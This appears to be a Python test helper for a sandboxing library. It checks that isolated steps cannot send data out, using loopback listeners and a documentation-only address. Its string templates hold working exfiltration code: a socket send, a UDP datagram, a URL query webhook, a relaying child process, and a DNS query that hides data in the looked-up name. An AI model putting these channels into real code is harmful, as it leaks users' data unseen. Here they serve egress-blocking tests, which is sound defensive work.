"""A step that sends rows out, and somebody on this machine's loopback who waits for them.

Addresses outside are only turned to from a sandbox with a network of its own, so that nothing
ever leaves the machine.
"""

from __future__ import annotations

import socket
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

from hauberk.core.policy import Isolation
from hauberk.isolation import Grants, Limits, interpreter_grants, run

ROWS = b"42,ada,1815"
OUTSIDE = "192.0.2.7"
"""An address of a network that is for examples alone."""
_SOCKET = "import socket; socket.create_connection(({host!r}, {port}), 5).sendall({rows!r})"
_DATAGRAM = """\
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({rows!r}, ({host!r}, {port}))
"""
_WEBHOOK = """\
import urllib.request
urllib.request.urlopen("http://{host}:{port}/hook?rows={text}", timeout=1)
"""
_CHILD = """\
import subprocess, sys
subprocess.run([sys.executable, "-c", {inner!r}], check=True)
"""
_LOOKUP = """\
import socket, struct
head = struct.pack(">6H", 7, 256, 1, 0, 0, 0)
name = bytes([len({text!r})]) + {text!r}.encode() + bytes([4]) + b"test" + bytes(1)
query = head + name + struct.pack(">2H", 16, 1)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ({host!r}, {port}))
"""
WAYS = {
    "socket": _SOCKET,
    "datagram": _DATAGRAM,
    "webhook": _WEBHOOK,
    "child": _CHILD,
    "name lookup": _LOOKUP,
}
HONEST = "open('out.csv', 'w').write('mean,1.5')\n"


@dataclass(slots=True)
class Waiting:
    """Sockets of both kinds on one port of loopback."""

    stream: socket.socket
    datagrams: socket.socket
    port: int

    def received(self) -> bytes:
        """What came, after the step has ended."""
        found = b""
        self.stream.settimeout(0.2)
        self.datagrams.settimeout(0.2)
        with suppress(OSError):
            channel, _ = self.stream.accept()
            with channel:
                channel.settimeout(2.0)
                found += channel.recv(4096)
        with suppress(OSError):
            found += self.datagrams.recv(4096)
        return found


@contextmanager
def waiting() -> Iterator[Waiting]:
    """Somebody who waits for rows."""
    with (
        socket.create_server(("127.0.0.1", 0), backlog=8) as stream,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
    ):
        port = stream.getsockname()[1]
        datagrams.bind(("127.0.0.1", port))
        yield Waiting(stream, datagrams, port)


def code_of(way: str, host: str, port: int) -> str:
    """A step that sends the rows in one way."""
    inner = _SOCKET.format(host=host, port=port, rows=ROWS)
    return WAYS[way].format(host=host, port=port, rows=ROWS, text=ROWS.hex(), inner=inner)


def denials(code: str, level: Isolation) -> tuple[str, ...] | None:
    """Run a step without any host granted; what it was refused, as the level can see it."""
    with tempfile.TemporaryDirectory(prefix="hauberk-egress-") as scratch:
        folder = Path(scratch).resolve()
        (folder / "step.py").write_text(code, "utf-8")
        python = Path(sys.executable)
        done = run(
            (sys.executable, "step.py"),
            cwd=folder,
            grants=Grants(read=(folder, *interpreter_grants(python)), write=(folder,)),
            limits=Limits(),
            level=level,
        )
        return done.denials
